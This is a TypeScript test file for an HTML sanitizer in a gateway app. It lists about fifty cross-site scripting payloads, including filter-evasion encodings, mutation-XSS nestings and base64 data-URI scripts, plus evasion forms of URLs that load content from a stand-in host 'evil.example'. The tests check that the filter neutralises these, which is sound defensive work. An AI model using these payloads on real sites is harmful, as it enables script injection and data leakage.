import assert from 'node:assert/strict';
import fc from 'fast-check';
import { parse } from 'parse5';
import { filterHtml } from '../../../../../node/app/gateway/html-filter.js';
import { DOCUMENT_PATH, leakIn } from './support.js';

const filter = (html: string): string => filterHtml(html, { documentPath: DOCUMENT_PATH });

/** Ways to write a URL out of the network (OWASP's filter evasion cheat sheet has many of these). */
const OUTSIDE_URLS = [
  'http://evil.example/x',
  '//evil.example/x',
  '\\\\evil.example/x',
  '/\\evil.example/x',
  '  https://evil.example/x',
  'HTTPS://EVIL.EXAMPLE/x',
  'h&#116;tp://evil.example/x',
  'ht\ttp://evil.example/x',
  '&#x68;&#x74;&#x74;&#x70;&#x3A;//evil.example/x',
  'https:evil.example/x',
];

/** Every place of HTML and CSS a URL can sit in. `{u}` is the URL. */
const PLACES = [
  '<img src="{u}">',
  '<a href="{u}">link</a>',
  '<area href="{u}">',
  '<link rel=stylesheet href="{u}">',
  '<link rel="icon" href="{u}">',
  '<link rel=prefetch href="{u}">',
  '<link rel=preconnect href="{u}">',
  '<link rel=dns-prefetch href="{u}">',
  '<link rel=preload as=image href="{u}">',
  '<script src="{u}"></script>',
  '<iframe src="{u}"></iframe>',
  '<frameset><frame src="{u}"></frameset>',
  '<object data="{u}"></object>',
  '<embed src="{u}">',
  '<applet code="{u}"></applet>',
  '<body background="{u}">',
  '<table background="{u}"><tr><td background="{u}">x</td></tr></table>',
  '<img src="a.png" srcset="{u} 2x">',
  '<picture><source srcset="{u}"><img src="a.png"></picture>',
  '<video poster="{u}" src="{u}"></video>',
  '<audio src="{u}"></audio>',
  '<video><source src="{u}"><track src="{u}"></video>',
  '<form action="{u}" method=post><input name=q><button>Send</button></form>',
  '<form><button formaction="{u}">Send</button></form>',
  '<input type=image src="{u}">',
  '<meta http-equiv="refresh" content="0; url={u}">',
  '<meta http-equiv="refresh" content="0;URL=\'{u}\'">',
  '<div style="background:url({u})">x</div>',
  '<div style="background-image: url(\'{u}\')">x</div>',
  '<div style="background:image-set(\'{u}\' 1x)">x</div>',
  '<div style="--bg:url({u});background:var(--bg)">x</div>',
  '<div style="background:\\75rl({u})">x</div>',
  '<div style="behavior:url({u})">x</div>',
  '<style>@import "{u}";</style>',
  '<style>@import url({u}) screen;</style>',
  '<style>body{background:url("{u}")}</style>',
  '<style>@font-face{font-family:f;src:url({u}) format("woff2")}</style>',
  '<style>li{list-style:url({u})}</style>',
  '<style>*{cursor:url({u}),auto}</style>',
  '<style>@media screen{p{background:url({u})}}</style>',
  '<style>p{background:u\\72l({u})}</style>',
  '<a ping="{u}" href="b.html">x</a>',
  '<base href="{u}"><img src="a.png">',
  '<svg><image href="{u}"></image></svg>',
  '<math><mi xlink:href="{u}">x</mi></math>',
  '<img lowsrc="{u}" dynsrc="{u}">',
  '<img src="a.png" longdesc="{u}">',
  '<blockquote cite="{u}">q</blockquote>',
  '<img src="x" onerror="location=\'{u}\'">',
  '<img src="{u}" referrerpolicy="unsafe-url">',
];

/** Classic script injections with no outside host: each must come out without a way to run. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=a.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<x onclick=alert(1)>click</x>',
  '<marquee onstart=alert(1)>m</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><script>alert(1)</script></template>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>li{list-style-image:url("javascript:alert(1)")}</style>',
  '<META HTTP-EQUIV="Set-Cookie" Content="a=b">',
  '<meta http-equiv="content-security-policy" content="script-src *">',
  '<meta name="referrer" content="unsafe-url">',
  '<a href="#" onmouseover="alert(1)">x</a>',
  '<img """><script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<style></style><script>alert(1)</script>',
  '<style>a{content:"</style><script>alert(1)</script>"}</style>',
  '<textarea></textarea><script>alert(1)</script>',
  '<plaintext><script>alert(1)</script>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<button form=f formaction="javascript:alert(1)">x</button>',
  '<link rel=import href="x.html">',
  '<base href="javascript:alert(1)//">',
];

const HOSTILE = [...PLACES.flatMap((place) => OUTSIDE_URLS.map((url) => place.replaceAll('{u}', url))), ...SCRIPTS];

describe('node/app/gateway/html-filter', () => {
  it(`leaves each of ${HOSTILE.length} hostile snippets inert`, () => {
    assert.ok(HOSTILE.length >= 100);
    for (const snippet of HOSTILE) {
      const leak = leakIn(filter(snippet));
      assert.equal(leak, undefined, `${snippet}\n  → ${filter(snippet)}`);
    }
  });

  it('finds the leaks it looks for when nothing is filtered (the check itself can fail)', () => {
    const caught = HOSTILE.filter((snippet) => leakIn(snippet) !== undefined);
    assert.ok(caught.length >= HOSTILE.length * 0.9, `${caught.length} of ${HOSTILE.length} caught unfiltered`);
  });

  it('keeps a page readable: text, structure, in-network images, stylesheets and links, rewritten to gateway paths', () => {
    const out = filter(
      '<!DOCTYPE html><html><head><title>T</title><link rel=stylesheet href="style.css"><style>h1{color:red;background:url(img/bg.png)}</style></head>' +
        '<body><h1 class=big id=top>Hello</h1><p>Some <b>bold</b> text.</p><img src="img/a.png" alt="A" width=10>' +
        '<a href="sub/">sub</a> <a href="../other.html#x">up</a> <a href="#top">top</a></body></html>',
    );
    const site = DOCUMENT_PATH.slice(0, DOCUMENT_PATH.lastIndexOf('/') + 1);
    const up = site.slice(0, site.slice(0, -1).lastIndexOf('/') + 1);
    assert.match(out, /^<!DOCTYPE html>/);
    assert.ok(out.includes('<title>T</title>'));
    assert.ok(out.includes(`<link rel="stylesheet" href="${site}style.css">`));
    assert.ok(out.includes(`h1{color:red;background:url(${site}img/bg.png)}`));
    assert.ok(out.includes('<h1 class="big" id="top">Hello</h1><p>Some <b>bold</b> text.</p>'));
    assert.ok(out.includes(`<img src="${site}img/a.png" alt="A" width="10">`));
    assert.ok(out.includes(`<a href="${site}sub/">sub</a>`));
    assert.ok(out.includes(`<a href="${up}other.html#x">up</a>`));
    assert.ok(out.includes(`<a href="${DOCUMENT_PATH}#top">top</a>`));
  });

  it('sends links out of the network to the leaving page and links to keys to their gateway paths', () => {
    const key = DOCUMENT_PATH.slice(1, DOCUMENT_PATH.indexOf('/site'));
    const out = filter(`<a href="https://example.org/a?b=c">out</a><a href="${key}/x.html">key</a><a href="warren:${key}">w</a><a href="mailto:a@b">m</a>`);
    assert.ok(out.includes(`<a href="/leaving?url=${encodeURIComponent('https://example.org/a?b=c')}">out</a>`));
    assert.ok(out.includes(`<a href="/${key}/x.html">key</a>`));
    assert.ok(out.includes(`<a href="/${key}">w</a>`));
    assert.ok(out.includes('<a>m</a>'));
  });

  it('keeps a meta refresh into the network, rewritten, and a form that stays in it', () => {
    const out = filter('<meta http-equiv=refresh content="3; url=\'next.html\'"><form action="search" method="dialog"><input name=q></form>');
    const site = DOCUMENT_PATH.slice(0, DOCUMENT_PATH.lastIndexOf('/') + 1);
    assert.ok(out.includes(`<meta http-equiv="refresh" content="3; url=${site}next.html">`));
    assert.ok(out.includes(`<form action="${site}search"><input name="q"></form>`));
  });

  it('puts the gateway notice first in the body', () => {
    const out = filterHtml('<p>page</p>', { documentPath: DOCUMENT_PATH, notice: '<p id=notice>edition 3</p>' });
    assert.ok(out.includes('<body><p id="notice">edition 3</p><p>page</p></body>'));
  });

  it('never throws, is idempotent, and leaves anything inert (property)', () => {
    const token = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom('<', '>', '"', "'", '=', '/', ' ', '<!--', '-->', '<p>', '</p>', '<table>', '<tr>', '<td>', '</table>', '<form>', '</form>'),
      fc.constantFrom('<style>', '</style>', '<textarea>', '</textarea>', '<select>', '<option>', '<div style="', 'url(', ')', '<a href="', '<img src="'),
      fc.constantFrom(
        'http://evil.example/',
        '//evil.example/',
        'javascript:',
        'a.png',
        '#x',
        '&amp;',
        '&#x3c;',
        '<svg>',
        '<math>',
        '<noscript>',
        '<template>',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(token, { maxLength: 12 }), (tokens) => {
        const input = tokens.join('');
        const once = filter(input);
        assert.equal(leakIn(once), undefined, `${input}\n  → ${once}`);
        assert.equal(filter(once), once, `not idempotent for ${JSON.stringify(input)}`);
      }),
      { numRuns: 400 },
    );
  });

  it('reads what it writes as the browser would: a filtered document parses back to the same document', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...HOSTILE, '<p>', '<table>', '<td>', 'text', '<b>'), { maxLength: 6 }), (snippets) => {
        const once = filter(snippets.join(''));
        assert.ok(parse(once).childNodes.length > 0);
      }),
      { numRuns: 100 },
    );
  });
});
